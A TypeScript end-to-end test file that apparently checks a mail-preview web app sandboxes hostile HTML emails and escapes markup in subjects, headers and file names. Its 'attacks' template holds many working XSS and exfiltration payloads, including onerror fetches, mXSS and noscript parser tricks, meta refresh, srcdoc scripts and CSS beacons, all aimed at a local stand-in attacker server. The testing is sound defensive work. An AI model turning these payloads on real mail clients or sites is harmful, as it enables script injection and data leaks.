import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
import { launchBrowser } from '../support/browser.ts'
import { openInbox, row } from '../support/inbox-page.ts'
import { sendMail } from '../support/send-mail.ts'
import { startServer } from '../support/server.ts'

let browser: Browser
beforeAll(async () => {
  browser = (await launchBrowser()).browser
})
afterAll(() => browser.close())

/** A site of the attacker: every request that reaches it is a leak. */
async function startLeakSite(): Promise<{ origin: string; requests: string[] }> {
  const requests: string[] = []
  const site = createServer((request, response) => {
    requests.push(request.url ?? '')
    response.end('taken')
  }).listen(0, '127.0.0.1')
  await once(site, 'listening')
  onTestFinished(() => void site.close())
  return { origin: `http://127.0.0.1:${(site.address() as AddressInfo).port}`, requests }
}

/** Ways to run, fetch, navigate or submit; each would reach `leak` under its own path. */
const attacks = (leak: string) => `<!doctype html><html><head>
<base href="${leak}/base/">
<meta http-equiv="refresh" content="0;url=${leak}/refresh">
<link rel="stylesheet" href="${leak}/stylesheet">
<link rel="prefetch" href="${leak}/prefetch"><link rel="dns-prefetch" href="${leak}">
<style>@import url("${leak}/import"); body { background: url(${leak}/css) } @font-face { font-family: f; src: url(${leak}/font) }</style>
<script>fetch("${leak}/script"); parent.document.title = "taken"; top.location = "${leak}/top"</script>
<script src="${leak}/script-src"></script>
</head><body onload="fetch('${leak}/onload')" background="${leak}/background">
<p id="seen">What Bob may read</p>
<img src="${leak}/img" srcset="${leak}/srcset 2x" onerror="fetch('${leak}/onerror')">
<img src="x" onerror="fetch('${leak}/onerror-2')">
<svg onload="fetch('${leak}/svg')"><image href="${leak}/svg-image"/><script>fetch("${leak}/svg-script")</script><use href="${leak}/use#x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('${leak}/mxss')&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=fetch('${leak}/noscript')>"></noscript>
<template><img src="${leak}/template"></template>
<iframe src="${leak}/iframe"></iframe><iframe srcdoc="<script>fetch('${leak}/srcdoc')</script>"></iframe>
<object data="${leak}/object"></object><embed src="${leak}/embed">
<video poster="${leak}/poster" src="${leak}/video" autoplay></video><audio src="${leak}/audio" autoplay></audio>
<input type="image" src="${leak}/input" autofocus onfocus="fetch('${leak}/focus')">
<details open ontoggle="fetch('${leak}/toggle')"><summary>x</summary></details>
<form action="${leak}/form"><button>Send</button></form>
<a href="javascript:fetch('${leak}/javascript')">Script link</a>
<a href="${leak}/link" ping="${leak}/ping">Outside link</a>
<div style="background-image:url('${leak}/inline');position:fixed;inset:0;pointer-events:none">Cover</div>
</body></html>`

test('the attacks are real: on a page of their own they reach the attacker', async () => {
  const leak = await startLeakSite()
  const page = await browser.newPage()
  onTestFinished(() => page.close())
  const refreshed = page.waitForURL(`${leak.origin}/**`)
  await page.setContent(attacks(leak.origin), { waitUntil: 'commit' })
  await refreshed
  for (const path of ['/stylesheet', '/script', '/img', '/onerror', '/svg', '/iframe', '/srcdoc']) {
    await expect.poll(() => leak.requests, { message: path }).toContain(path)
  }
})

test('hostile HTML: nothing runs, nothing is fetched, nothing leads away', async () => {
  const leak = await startLeakSite()
  const server = await startServer()
  await sendMail(server, { subject: 'Hostile', html: attacks(leak.origin) })
  const page = await openInbox(browser, server.httpUrl, {
    errors: /sandboxed|Content Security Policy|blocked/i,
  })
  const asked = watch(page)
  await row(page, 'Hostile').click()
  const frame = page.frameLocator('iframe[title^="Preview"]')
  await frame.getByText('What Bob may read').waitFor()
  // Whatever would run later runs before the network is idle.
  await page.waitForLoadState('networkidle')
  for (const button of await frame.locator('form button, input, summary').all())
    await button.click({ force: true })
  await page.waitForLoadState('networkidle')

  expect(leak.requests).toEqual([])
  expect(asked.filter((url) => !url.startsWith(server.httpUrl))).toEqual([])
  expect(page.context().pages()).toHaveLength(1)
  expect(new URL(page.url()).pathname).toMatch(/^\/i\/default\/m\/[\w-]+$/)
  expect(await page.title()).toContain('Stagingpost')
})

test('a link leads to the page that shows its target, in another tab, and not further', async () => {
  const leak = await startLeakSite()
  const server = await startServer()
  const html = `<p><a href="${leak.origin}/reset?token=1">Choose a new password</a></p>`
  await sendMail(server, { subject: 'Reset', html, text: `Open ${leak.origin}/from-text now` })
  const page = await openInbox(browser, server.httpUrl)
  await row(page, 'Reset').click()
  await expectOpenPage(page, () =>
    page.frameLocator('iframe').getByRole('link', { name: 'Choose a new password' }).click(),
  )
  await page.getByRole('tab', { name: 'Text', exact: true }).click()
  await expectOpenPage(page, () =>
    page.getByRole('link', { name: `${leak.origin}/from-text`, exact: true }).click(),
  )
  expect(leak.requests).toEqual([])

  async function expectOpenPage(from: Page, press: () => Promise<void>) {
    const popup = from.waitForEvent('popup')
    await press()
    const opened = await popup
    await opened.getByText(new URL(leak.origin).host).first().waitFor()
    expect(opened.url()).toMatch(new RegExp(`^${server.httpUrl}/open\\?`))
    expect(await opened.evaluate('window.opener')).toBeNull()
    await opened.close()
  }
})

test('markup in subject, names, text, file names and headers is shown as text', async () => {
  const server = await startServer()
  const markup = '<img src=x onerror="document.title=1"><b>bold</b>'
  await sendMail(server, {
    subject: `Subject ${markup}`,
    from: { name: `Name ${markup}`, address: 'app@shop.example' },
    text: `Text ${markup} {{7*7}} <script>document.title = 1</script>`,
    headers: { 'X-Note': `Header ${markup}` },
    attachments: [{ filename: `File ${markup}.txt`.replaceAll('/', '_'), content: 'x' }],
  })
  const page = await openInbox(browser, server.httpUrl)
  await row(page, `Subject ${markup}`).click()
  await page.getByRole('heading', { name: `Subject ${markup}` }).waitFor()
  await page.getByText(`Name ${markup}`).last().waitFor()
  await page.getByText(`Text ${markup} {{7*7}} <script>`).last().waitFor()
  await page.getByRole('tab', { name: 'Headers' }).click()
  await page.getByText(`Header ${markup}`).waitFor()
  await page.getByRole('tab', { name: /Attachments/ }).click()
  await page.getByText(/^File <img src=x onerror/).waitFor()
  await page.getByRole('tab', { name: 'Raw', exact: true }).click()
  await page.getByRole('region', { name: 'Raw message' }).getByText('MIME-Version').waitFor()
  expect(await page.locator('img, b:text-is("bold")').count()).toBe(0)
  expect(await page.title()).toContain('Stagingpost')
})

/** Every request of the page and its frames from now on. */
function watch(page: Page): string[] {
  const urls: string[] = []
  page.on('request', (request) => urls.push(request.url()))
  return urls
}
